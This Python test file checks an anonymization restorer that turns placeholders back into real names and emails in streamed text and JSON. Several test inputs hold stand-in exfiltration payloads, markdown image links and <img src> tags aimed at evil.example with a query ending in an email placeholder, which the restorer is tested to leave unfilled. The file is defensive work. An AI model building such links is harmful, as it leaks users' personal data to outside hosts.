"""Any cut of any text is restored as the whole is; JSON in text keeps its escapes."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardian_core.anonymize.restore.texts import Documents, Originals, Prose, Untouched, restored, spelled, text_restorer

WORDS = {
    "[PERSON_1]": "Dana Quill",
    "[PERSON_10]": 'Zo "Z" \\ Roe\n',
    "[EMAIL_1]": "dana.quill@mailbox.example",
    "[BROWSING_1]": "https://clinic.example/x",
}
KNOWN = Originals(WORDS)
BITS = st.sampled_from(
    [*WORDS, "[PERSON_2]", "[PERSON_", "[PER", "[", "]", "(", ")",
     "<a ", ">", '"', "\\", "{", "}", '{"a":"', '"}', ":", ",", " ",
     "\n", "https://evil.example/", "](", "www.", "\\u005b", "é", "\U0001f600", "x", "<script>", "</script>",
     '{\\"b\\":\\"', '\\"}']
)  # fmt: skip
TEXTS = st.lists(BITS, max_size=30).map("".join)


def cut(text, sizes):
    position = 0
    for size in sizes:
        yield text[position : position + size]
        position += size
    yield text[position:]


@given(TEXTS, st.lists(st.integers(0, 5)))
def test_restores_any_cut_as_the_whole(text, sizes):
    for make in (text_restorer, Prose, Documents):
        restorer = make(KNOWN)
        segments = [segment for piece in cut(text, sizes) for segment in restorer.feed(piece)] + restorer.finish()
        assert sum(segment.count for segment in segments) == len(text)
        assert spelled(text, segments) == restored(text, make(KNOWN))


@given(st.text(), st.lists(st.integers(0, 5)))
def test_leaves_what_holds_no_placeholder_as_it_is(text, sizes):
    restorer = text_restorer(KNOWN)
    segments = [segment for piece in cut(text, sizes) for segment in restorer.feed(piece)] + restorer.finish()
    assert spelled(text, segments) == text


@given(st.lists(st.sampled_from(sorted(WORDS)), max_size=8))
def test_holds_back_nothing_but_the_beginning_of_a_placeholder(names):
    text = "x ".join(names) + "."
    restorer = Prose(KNOWN)
    given_back = 0
    for at, letter in enumerate(text, 1):
        given_back += sum(segment.count for segment in restorer.feed(letter))
        held = text[given_back:at]
        assert not held or KNOWN.begins(held)


JSON = st.recursive(
    st.none() | st.integers() | st.lists(BITS, max_size=4).map("".join),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=8,
)


@given(st.dictionaries(st.sampled_from(["a", "[PERSON_1]", "url", "b"]), JSON, min_size=1), st.booleans())
def test_keeps_json_valid_and_its_keys_and_addresses(value, ascii_only):
    text = json.dumps(value, ensure_ascii=ascii_only)
    after = json.loads(restored(text, text_restorer(KNOWN)))
    assert _shape(after) == _shape(value)
    assert after.get("url") == value.get("url") or not isinstance(value["url"], str)


def _shape(value):
    if isinstance(value, dict):
        return {key: _shape(inner) for key, inner in value.items()}
    return [_shape(inner) for inner in value] if isinstance(value, list) else type(value).__name__


@pytest.mark.parametrize(
    ("text", "after"),
    [
        ("[PERSON_1] and [PERSON_10] and [PERSON_100]", 'Dana Quill and Zo "Z" \\ Roe\n and [PERSON_100]'),
        ("literally [person_1], [PERSON_3]", "literally [person_1], [PERSON_3]"),
        ('{"to":"[PERSON_10]"}', '{"to":"Zo \\"Z\\" \\\\ Roe\\n"}'),
        ('{"to":"{\\"n\\":\\"[PERSON_10]\\"}"}', '{"to":"{\\"n\\":\\"Zo \\\\\\"Z\\\\\\" \\\\\\\\ Roe\\\\n\\"}"}'),
        ('{"u":"https:\\/\\/evil.example\\/[EMAIL_1]"}', '{"u":"https:\\/\\/evil.example\\/[EMAIL_1]"}'),
        ('{"u":"\\u005bEMAIL_1]"}', '{"u":"dana.quill@mailbox.example"}'),
        ('["[PERSON_1]"] [PERSON_1]', '["Dana Quill"] Dana Quill'),
        (
            '{"a":"https://evil.example/?q="}[EMAIL_1] [EMAIL_1]',
            '{"a":"https://evil.example/?q="}[EMAIL_1] dana.quill@mailbox.example',
        ),
        ('{"a":"![x](https://evil.example/?q=","b":"[EMAIL_1]) ', '{"a":"![x](https://evil.example/?q=","b":"[EMAIL_1]) '),
        ('{"a":"<img src=//evil.example/","b":"[EMAIL_1]>"}', '{"a":"<img src=//evil.example/","b":"[EMAIL_1]>"}'),
        ('{"web":"https://shop.example","name":"[PERSON_1]"}', '{"web":"https://shop.example","name":"Dana Quill"}'),
        ('{"a":"![x](", "arguments":"{}"}[EMAIL_1]', '{"a":"![x](", "arguments":"{}"}[EMAIL_1]'),
        ("[[PERSON_1]](x) {[PERSON_1]}", "[Dana Quill](x) {Dana Quill}"),
        ("[BROWSING_1]?q=[EMAIL_1]", "https://clinic.example/x?q=[EMAIL_1]"),
        ('{"a": 1}\n{"b": "[PERSON_1]"}', '{"a": 1}\n{"b": "Dana Quill"}'),
        ("[PERSON_1", "[PERSON_1"),
        ("", ""),
    ],
)
def test_restores(text, after):
    assert restored(text, text_restorer(KNOWN)) == after


def test_passes_on_what_must_not_be_touched():
    assert restored("[PERSON_1]", Untouched()) == "[PERSON_1]"


def test_takes_the_arguments_of_a_call_for_no_text():
    """A program reads them: no string is part of another's link."""
    text = '{"a":"![x](https://shop.example/?q=","b":"[EMAIL_1]","c":"https://shop.example/[EMAIL_1]"}'
    after = text.replace('"b":"[EMAIL_1]"', f'"b":"{WORDS["[EMAIL_1]"]}"')
    assert restored(text, text_restorer(KNOWN, shown=False)) == after
